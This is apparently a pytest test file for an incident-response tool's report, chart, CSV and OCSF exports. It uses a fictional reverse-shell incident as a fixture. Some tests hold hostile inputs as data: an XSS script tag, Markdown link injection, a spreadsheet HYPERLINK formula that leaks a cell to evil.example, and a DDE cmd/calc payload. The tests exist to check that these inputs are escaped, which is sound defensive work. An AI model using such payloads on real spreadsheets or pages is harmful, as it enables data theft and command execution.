"""Post-mortem and compliance reports, their SVG charts, CSV export and the OCSF Incident Finding."""

from __future__ import annotations

import csv
import xml.etree.ElementTree as ET
from datetime import datetime, timedelta, timezone
from typing import Any

import jsonschema
import pytest
from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema

from services.reporter import charts
from services.reporter.aggregates import IncidentTimes
from services.reporter.measures import DEFAULT_SLA, MILESTONES
from services.reporter.ocsf import OCSF_VERSION
from services.reporter.reports import (
    EXPORT_COLUMNS,
    ComplianceData,
    IncidentBundle,
    compliance,
    csv_chunks,
    json_chunks,
    ocsf_finding,
    postmortem,
    to_csv,
    to_json,
)
from tests.factories import T0

HOSTILE = "<script>alert('x')</script> | pipe"


def _incident(**overrides: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "id": "inc-1",
        "title": "Reverse shell on db-01",
        "type": "system_compromise",
        "severity": "SEV1",
        "state": "resolved",
        "resolution": "fixed",
        "commander": "alice",
        "alert_count": 2,
        "hosts": ["db-01"],
        "users": ["deploy"],
        "sources": ["falco"],
        "services": [],
        "indicators": ["203.0.113.9"],
        "classification_reason": "falco alert mentions 'reverse shell'",
        "severity_reason": "critical alert",
        "created_at": T0,
        "first_alert_at": T0,
        "detected_at": T0 + timedelta(seconds=30),
        "acknowledged_at": T0 + timedelta(minutes=10, seconds=30),
        "contained_at": T0 + timedelta(hours=5, seconds=30),
        "recovered_at": None,
        "resolved_at": T0 + timedelta(hours=6, seconds=30),
        "closed_at": None,
        "updated_at": T0 + timedelta(hours=6, seconds=30),
        "analysis": {
            "summary": "reverse shell to 203.0.113.9",
            "indicators": [
                {"kind": "ipv4", "value": "203.0.113.9", "verdict": "malicious", "feeds": ["abuse"], "tags": []},
                {"kind": "sha256", "value": "a" * 64, "verdict": None, "feeds": [], "tags": []},
            ],
            "impact": {"systems": ["db-01"], "business_services": ["payments"], "crown_jewels": ["db-01"],
                       "most_critical": 1, "data_at_risk": "restricted"},
            "root_cause": {
                "stage": {"statement": "execution reached", "subject": "TA0002", "confidence": 70,
                          "evidence": ["T1059 on db-01"]},
                "entry_vector": {"statement": "exploit of a public-facing application", "subject": "T1190",
                                 "confidence": 40, "evidence": ["k1: web exploit attempt", "from 203.0.113.9"]},
                "patient_zero": None,
            },
            "threat": {"origin": "external", "origin_evidence": ["203.0.113.9 is public"],
                       "known_bad": ["203.0.113.9"], "actors": [], "malware": ["reverse-shell-kit"]},
        },
    }  # fmt: skip
    base.update(overrides)
    return base


def _bundle(**overrides: Any) -> IncidentBundle:
    return IncidentBundle(
        incident=_incident(**overrides),
        alerts=[
            {"key": "k1", "source": "falco", "title": "Reverse shell", "techniques": ["T1059"]},
            {"key": "k2", "source": "falco", "title": "Outbound connection", "techniques": []},
        ],
        actions=[
            {
                "name": "Isolate host",
                "phase": "containment",
                "item": "db-01",
                "state": "succeeded",
                "dry_run": False,
                "approved_by": "bob",
                "approved_at": T0,
                "succeeded": True,
                "validated": True,
            },
            {
                "name": "Block address",
                "phase": "containment",
                "item": "203.0.113.9",
                "state": "failed",
                "dry_run": False,
                "approved_by": None,
                "approved_at": None,
                "succeeded": False,
                "validated": None,
            },
        ],
        timeline=[
            {"time": T0 + timedelta(seconds=30), "actor": "detector", "summary": "SEV1 detected"},
            {"time": T0 + timedelta(minutes=10, seconds=30), "actor": "alice", "summary": "state -> acknowledged"},
        ],
    )


NOW = T0 + timedelta(days=1)


def test_the_markdown_post_mortem_has_every_section_and_the_stored_figures() -> None:
    text = postmortem(_bundle(), fmt="md", sla=DEFAULT_SLA, now=NOW)
    for section in ("Summary", "Impact", "Timeline", "Root-cause hypothesis and its evidence",
                    "What was done, and whether it worked", "Response times against targets",
                    "What went well", "What went badly", "Follow-up actions"):  # fmt: skip
        assert f"## {section}\n" in text
    assert "| First alert | 2026-11-24 09:00:00 UTC |" in text
    assert "- Duration: 6h 0m (first alert to resolution)" in text
    assert "- Business services: payments" in text and "- Crown jewels: db-01" in text
    assert "| 2026-11-24 09:10:30 | alice | state -> acknowledged |" in text
    assert "| `203.0.113.9` | ipv4 | malicious | abuse |" in text
    assert "ATT&CK techniques named by the alerts: T1059" in text
    assert "| Isolate host | containment | db-01 | succeeded | bob | yes, validated |" in text
    assert "| Block address | containment | 203.0.113.9 | failed | - | no: it failed |" in text
    assert "| time to acknowledge (TTA) | 10m 0s | 15m 0s | met |" in text
    assert "| time to contain (TTC) | 5h 0m | 4h 0m | missed |" in text
    assert "| time to recover (TTRec) | - | - | not reached |" in text


def test_the_post_mortem_gives_the_analyzers_root_cause_hypotheses_with_confidence_and_evidence() -> None:
    text = postmortem(_bundle(), fmt="md", sla=DEFAULT_SLA, now=NOW)
    section = text.split("## Root-cause hypothesis and its evidence\n", 1)[1].split("\n## ", 1)[0]
    # Entry vector first, as a reader asks; a part the analyzer could not say is left out.
    assert section.index("| Entry vector |") < section.index("| Stage reached |")
    assert (
        "| Entry vector | exploit of a public-facing application | 40% | k1: web exploit attempt; from 203.0.113.9 |"
        in section
    )
    assert "| Stage reached | execution reached | 70% | T1059 on db-01 |" in section
    assert "Patient zero" not in section
    assert "Origin: external (203.0.113.9 is public). Known bad: 203.0.113.9. Malware: reverse-shell-kit." in section
    page = postmortem(_bundle(), fmt="html", sla=DEFAULT_SLA, now=NOW)
    assert "<td>Entry vector</td><td>exploit of a public-facing application</td><td>40%</td>" in page
    assert "<li>from 203.0.113.9</li>" in page
    bare = _bundle()
    bare.incident["analysis"] = {}
    assert "The analyzer has drawn no root-cause hypothesis" in postmortem(bare, fmt="md", sla=DEFAULT_SLA, now=NOW)


def test_the_post_mortem_says_when_the_analysis_carried_only_the_worst_indicators() -> None:
    whole = postmortem(_bundle(), fmt="md", sla=DEFAULT_SLA, now=NOW)
    assert "worst of" not in whole
    cut = _bundle()
    cut.incident["analysis"] = {**cut.incident["analysis"], "indicator_count": 10_000}
    assert "|\n\nThe 2 worst of 10000 indicators.\n\n" in postmortem(cut, fmt="md", sla=DEFAULT_SLA, now=NOW)
    assert "<p>The 2 worst of 10000 indicators.</p>" in postmortem(cut, fmt="html", sla=DEFAULT_SLA, now=NOW)


def test_a_title_cannot_break_the_markdown_table_or_inject_html() -> None:
    bundle = _bundle(title=HOSTILE)
    bundle.timeline.append({"time": T0, "actor": "x|y", "summary": HOSTILE})
    text = postmortem(bundle, fmt="md", sla=DEFAULT_SLA, now=NOW)
    assert "| x\\|y | \\<script>alert('x')\\</script> \\| pipe |" in text
    page = postmortem(bundle, fmt="html", sla=DEFAULT_SLA, now=NOW)
    assert "<script>" not in page
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; | pipe" in page
    # A lesson can make no link nor image of itself in whatever renders the Markdown.
    bundle.lessons = [{"time": T0, "actor": "x", "note": "see ![](https://t.example/p) [here](https://evil)",
                       "lesson": "went_badly"}]  # fmt: skip
    text = postmortem(bundle, fmt="md", sla=DEFAULT_SLA, now=NOW)
    assert "see !\\[\\](https://t.example/p) \\[here\\](https://evil)" in text


def test_no_text_of_an_incident_breaks_the_markdown_rows_or_headings() -> None:
    bundle = _bundle(title="Brute force\n## Injected heading", commander="ana\r| injected | row |")
    bundle.timeline.append({"time": T0, "actor": "alice", "summary": "Login\r| injected | row | here"})
    bundle.actions[0]["item"] = "10.0.0.1|evil"
    bundle.actions[0]["approved_by"] = "bob\n# heading"
    text = postmortem(bundle, fmt="md", sla=DEFAULT_SLA, now=NOW)
    lines = text.splitlines()
    assert lines[0] == "# Post-mortem: Brute force ## Injected heading"
    assert not [line for line in lines if line.startswith(("## Injected", "# heading"))]
    assert not [line for line in lines if line.startswith("| injected")]
    assert "| Login \\| injected \\| row \\| here |" in text
    assert "| 10.0.0.1\\|evil |" in text and "| bob # heading |" in text


def test_no_host_user_source_or_analysis_text_starts_a_heading_or_row_of_the_markdown() -> None:
    bundle = _bundle(
        hosts=["web-1\n## Injected heading"],
        users=["bob\n| x | y |"],
        classification_reason="keyword\n# Classified heading",
    )
    bundle.incident["analysis"]["summary"] = "reverse shell\n## Analysis heading"
    bundle.incident["analysis"]["impact"] = {"data_at_risk": "cards\n# Data heading", "crown_jewels": ["db\n# jewel"]}
    bundle.alerts[0]["source"] = "ids\n# src"
    bundle.alerts[0]["techniques"] = ["T1059\n# technique"]
    lines = postmortem(bundle, fmt="md", sla=DEFAULT_SLA, now=NOW).splitlines()
    injected = ("## Injected", "| x |", "# Classified", "## Analysis", "# Data", "# jewel", "# src", "# technique")
    assert not [line for line in lines if line.startswith(injected)]
    assert "- Systems: web-1 ## Injected heading" in lines
    assert "- Users: bob \\| x \\| y \\|" in lines


def test_the_html_post_mortem_embeds_its_charts() -> None:
    later = NOW + timedelta(hours=1)
    page = postmortem(_bundle(state="contained", resolved_at=None), fmt="html", sla=DEFAULT_SLA, now=later)
    assert page.count("<svg") == 2
    assert "first alert to now, still open" in page
    assert 'class="breach">still open, past its target' in page  # SEV1 unresolved after a day


def test_charts_are_well_formed_svg_with_labels_escaped() -> None:
    milestones: dict[str, datetime | None] = {name: T0 + timedelta(minutes=n) for n, name in enumerate(MILESTONES)}
    svg = charts.timeline_svg(milestones, [T0 + timedelta(seconds=s) for s in (5, 50, 500)])
    root = ET.fromstring(svg)
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    labels = [t.text for t in root.iter("{http://www.w3.org/2000/svg}text")]
    assert "resolved +5m 0s" in labels and "first alert +0s" in labels
    bars = ET.fromstring(charts.bars_svg([(HOSTILE, 100.0, 50.0), ("ok", 10.0, None), ("none", None, 5.0)], title="t"))
    rects = list(bars.iter("{http://www.w3.org/2000/svg}rect"))
    assert [r.get("fill") for r in rects] == ["#dc2626", "#2563eb"]  # over its target: red
    assert HOSTILE in [t.text for t in bars.iter("{http://www.w3.org/2000/svg}text")]
    assert ET.fromstring(charts.timeline_svg({}, [])) is not None


def test_the_compliance_report() -> None:
    times = [
        IncidentTimes(id="inc-1", severity="SEV1", type="data_leak", state="resolved", resolution="fixed",
                      milestones={"detected": T0, "acknowledged": T0 + timedelta(minutes=20),
                                  "resolved": T0 + timedelta(hours=2)}),
        IncidentTimes(id="inc-2", severity="SEV2", type="data_leak", state="investigating", resolution=None,
                      milestones={"detected": T0, "acknowledged": T0 + timedelta(minutes=5)}),
    ]  # fmt: skip
    data = ComplianceData(
        since=T0 - timedelta(days=1),
        until=T0 + timedelta(days=1),
        incidents=[
            {"id": "inc-1", "severity": "SEV1", "type": "data_leak", "state": "resolved"},
            {"id": "inc-2", "severity": "SEV2", "type": "data_leak", "state": "investigating"},
        ],
        times=times,
        actions=[
            {
                "incident_id": "inc-1",
                "name": "Isolate",
                "item": "db-01",
                "state": "succeeded",
                "approved_by": "bob",
                "approved_at": T0,
            }
        ],
        audit_entries=12,
        audit_problem=None,
        follow_ups=[
            {"incident_id": "inc-1", "title": "File the follow-up work with owners and dates", "owner": "alice",
             "required": True, "due_at": T0 + timedelta(hours=3)},
            {"incident_id": "inc-2", "title": "Update detection rules | playbooks", "owner": None,
             "required": False, "due_at": None},
        ],
    )  # fmt: skip
    text = compliance(data, fmt="md", sla=DEFAULT_SLA, now=NOW)
    follow_ups = text.split("## Open follow-ups\n", 1)[1].split("\n## ", 1)[0]
    assert (
        "| `inc-1` | File the follow-up work with owners and dates | alice | 2026-11-24 12:00:00 UTC (overdue) | yes |"
        in follow_ups
    )
    assert "| `inc-2` | Update detection rules \\| playbooks | - | - | no |" in follow_ups
    assert "2 incident(s) created in the period." in text
    assert "| data_leak | 2 |" in text
    assert "| SEV1 | 1 | 1 | - | 20m 0s | - | - | 2h 0m | 1 |" in text  # acknowledged past 15 min
    assert "| `inc-1` | Isolate | db-01 | succeeded | bob | 2026-11-24 09:00:00 UTC |" in text
    assert "| `inc-2` | SEV2 | investigating | time_to_contain |" in text  # 8 h to contain passed
    assert "The audit chain verifies: 12 entries" in text
    broken = compliance(
        ComplianceData(**{**data.__dict__, "audit_problem": "entry 3 was edited"}), fmt="html", sla=DEFAULT_SLA, now=NOW
    )
    assert "The audit chain does not verify: entry 3 was edited" in broken
    assert broken.count("<svg") == 1


def test_the_compliance_report_counts_an_incident_with_no_severity_or_type_as_unknown() -> None:
    """Whatever row reaches it (one made by an early edit, before the detection, has neither), never a 500."""
    rows: list[dict[str, Any]] = [
        {"id": "inc-1", "severity": "SEV1", "type": "data_leak", "state": "detected"},
        {"id": "inc-2", "severity": None, "type": None, "state": None},
    ]
    times = [IncidentTimes(r["id"], r["severity"], r["type"], r["state"], None, {}) for r in rows]
    data = ComplianceData(None, None, rows, times, [], 0, None)
    for fmt in ("md", "html"):
        text = compliance(data, fmt=fmt, sla=DEFAULT_SLA, now=NOW)
        assert "2 incident(s) created in the period" in text, fmt
    assert "| unknown | 1 |" in compliance(data, fmt="md", sla=DEFAULT_SLA, now=NOW)


def test_the_compliance_report_says_a_period_asked_for_in_another_zone_in_utc() -> None:
    paris = timezone(timedelta(hours=2))
    data = ComplianceData(
        since=datetime(2026, 10, 1, tzinfo=paris),
        until=datetime(2026, 11, 1),  # naive: taken to be UTC, as the database takes it
        incidents=[],
        times=[],
        actions=[{"incident_id": "inc-1", "name": "Isolate", "item": "db-01", "state": "succeeded",
                  "approved_by": "bob", "approved_at": datetime(2026, 10, 2, 11, 30, tzinfo=paris)}],
        audit_entries=0,
        audit_problem=None,
    )  # fmt: skip
    for fmt in ("md", "html"):
        text = compliance(data, fmt=fmt, sla=DEFAULT_SLA, now=NOW.astimezone(paris))
        assert "Period: 2026-09-30 22:00:00 UTC to 2026-11-01 00:00:00 UTC." in text, fmt
        assert f"Generated {NOW:%Y-%m-%d %H:%M:%S} UTC." in text, fmt
        assert "2026-10-02 09:30:00 UTC" in text, fmt


def test_csv_export_flattens_lists_and_times() -> None:
    text = to_csv([_incident()], EXPORT_COLUMNS["incidents"])
    [row] = list(csv.DictReader(text.splitlines()))
    assert (row["id"], row["hosts"], row["acknowledged_at"]) == ("inc-1", '["db-01"]', "2026-11-24T09:10:30+00:00")
    assert row["recovered_at"] == ""


def test_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
    hostile = {
        **_incident(),
        "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "commander": "+cmd|' /C calc'!A0",
        "hosts": ["@SUM(1+1)"],
        "alert_count": -1,
    }
    [row] = list(csv.DictReader(to_csv([hostile], EXPORT_COLUMNS["incidents"]).splitlines()))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["commander"] == "'+cmd|' /C calc'!A0"
    assert row["hosts"] == '["@SUM(1+1)"]'  # JSON text starts with its bracket
    assert row["alert_count"] == "-1"  # a number is no formula


@pytest.fixture(scope="module")
def incident_finding_schema() -> dict[str, Any]:
    """OCSF's own Incident Finding class as JSON Schema, generated from the schema ocsf-json-schema ships."""
    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(version=OCSF_VERSION))
    assert schema.lookup_class_name_from_uid(class_uid=2005) == "incident_finding"
    found: dict[str, Any] = schema.get_class_schema("incident_finding")
    return found


@pytest.mark.parametrize(
    "overrides",
    [
        {},
        {"state": "detected", "resolution": None, "resolved_at": None, "commander": None, "analysis": None},
        {"state": "closed", "resolution": "duplicate"},
        {"severity": None, "type": None, "state": "made-up"},
    ],
)
def test_the_ocsf_incident_finding_validates_against_the_ocsf_schema(
    incident_finding_schema: dict[str, Any], overrides: dict[str, Any]
) -> None:
    finding = ocsf_finding(_bundle(**overrides))
    jsonschema.Draft202012Validator(incident_finding_schema).validate(finding)
    assert (finding["class_uid"], finding["category_uid"]) == (2005, 2)
    assert finding["type_uid"] == 200500 + finding["activity_id"]


def test_the_ocsf_finding_says_what_vigil_knows(incident_finding_schema: dict[str, Any]) -> None:
    finding = ocsf_finding(_bundle())
    assert (finding["severity_id"], finding["priority_id"], finding["status_id"]) == (5, 4, 4)
    assert (finding["verdict_id"], finding["impact_id"], finding["activity_id"]) == (2, 4, 3)
    assert finding["start_time"] == int(T0.timestamp() * 1000)
    assert finding["duration"] == (6 * 3600 + 30) * 1000
    assert finding["assignee"] == {"name": "alice"}
    assert {(o["type_id"], o["value"]) for o in finding["observables"]} >= {(2, "203.0.113.9"), (8, "a" * 64)}
    assert finding["finding_info_list"][0]["data_sources"] == ["falco"]
    bad = {**finding, "status_id": 42}
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, incident_finding_schema)


def test_the_post_mortem_lists_the_lessons_people_recorded_and_the_follow_ups_done_or_not() -> None:
    bundle = _bundle()
    empty = postmortem(bundle, fmt="md", sla=DEFAULT_SLA, now=NOW)
    assert '_None recorded yet: `vigil note inc-1 "..." --went-well`._' in empty
    assert '_None recorded yet: `vigil tasks add inc-1 "..." --owner NAME --due 14d`._' in empty
    bundle.lessons = [
        {"time": T0 + timedelta(hours=7), "actor": "alice", "note": "paging reached bob in 2 minutes",
         "lesson": "went_well"},
        {"time": T0 + timedelta(hours=8), "actor": "bob", "note": "the | runbook <b>missed</b> the db",
         "lesson": "went_badly"},
    ]  # fmt: skip
    bundle.follow_ups = [
        {"title": "Patch the web tier", "owner": "carol", "due_at": T0 + timedelta(days=14), "state": "open",
         "done_at": None, "done_by": None},
        {"title": "Rotate the db credentials", "owner": "dba-oncall", "due_at": None, "state": "done",
         "done_at": T0 + timedelta(days=1), "done_by": "dave"},
    ]  # fmt: skip
    text = postmortem(bundle, fmt="md", sla=DEFAULT_SLA, now=NOW)
    well = text.split("## What went well\n", 1)[1].split("\n## ", 1)[0]
    badly = text.split("## What went badly\n", 1)[1].split("\n## ", 1)[0]
    assert well.strip() == "- paging reached bob in 2 minutes (alice, 2026-11-24 16:00)"
    assert "the \\| runbook" in badly and "(bob, 2026-11-24 17:00)" in badly
    assert "| Patch the web tier | carol | 2026-12-08 09:00:00 UTC | open |" in text
    assert "| Rotate the db credentials | dba-oncall | - | done by dave, 2026-11-25 09:00:00 UTC |" in text
    page = postmortem(bundle, fmt="html", sla=DEFAULT_SLA, now=NOW)
    assert "<li>the | runbook &lt;b&gt;missed&lt;/b&gt; the db" in page
    assert "<td>Rotate the db credentials</td><td>dba-oncall</td>" in page


def test_the_post_mortem_draws_the_attack_path_hop_by_hop() -> None:
    bundle = _bundle()
    assert "The path of this incident is not known: it was first analysed before Vigil kept it." in postmortem(
        bundle, fmt="md", sla=DEFAULT_SLA, now=NOW
    )
    bundle.incident["analysis"] = {**bundle.incident["analysis"], "attack_path": [], "attack_path_hops": 0}
    assert "The alerts show no movement from one address or host to another." in postmortem(
        bundle, fmt="md", sla=DEFAULT_SLA, now=NOW
    )
    bundle.incident["analysis"] = {
        **bundle.incident["analysis"],
        "attack_path": [
            {"source": "ip:203.0.113.9", "target": "host:web-1", "first_seen": "2026-11-24T09:00:00Z",
             "last_seen": "2026-11-24T09:05:00Z", "alerts": 3, "techniques": ["T1190"], "lateral": False},
            {"source": "host:web-1", "target": "ip:10.0.2.9", "first_seen": "2026-11-24T09:20:00Z",
             "last_seen": "2026-11-24T09:20:00Z", "alerts": 1, "techniques": [], "lateral": True},
        ],
        "attack_path_hops": 7,
    }  # fmt: skip
    text = postmortem(bundle, fmt="md", sla=DEFAULT_SLA, now=NOW)
    section = text.split("## Attack path\n", 1)[1].split("\n## ", 1)[0]
    assert (
        "| `ip:203.0.113.9` | `host:web-1` | 2026-11-24 09:00:00 UTC | 2026-11-24 09:05:00 UTC | 3 | T1190 |" in section
    )
    assert "| `host:web-1` | `ip:10.0.2.9` (lateral) |" in section
    assert "The 2 earliest of 7 hops." in section
    page = postmortem(bundle, fmt="html", sla=DEFAULT_SLA, now=NOW)
    assert "<td><code>host:web-1</code></td><td><code>ip:10.0.2.9</code> (lateral)</td>" in page


async def _batches(rows: list[dict[str, Any]], size: int) -> Any:
    for at in range(0, len(rows), size):
        yield rows[at : at + size]


async def _text(chunks: Any) -> str:
    return "".join([chunk async for chunk in chunks])


@pytest.mark.parametrize("count", [0, 1, 5])
@pytest.mark.parametrize("size", [1, 2, 10])
async def test_an_export_written_as_its_rows_are_read_is_the_text_written_at_once(count: int, size: int) -> None:
    rows = [
        {"incident_id": f"inc-{n}", "time": T0 + timedelta(minutes=n), "summary": f'=cmd|{n}\n"q"', "tags": ["a"]}
        for n in range(count)
    ]
    columns = ("incident_id", "time", "summary", "tags")
    assert await _text(csv_chunks(_batches(rows, size), columns)) == to_csv(rows, columns)
    assert await _text(json_chunks(_batches(rows, size))) == to_json(rows)
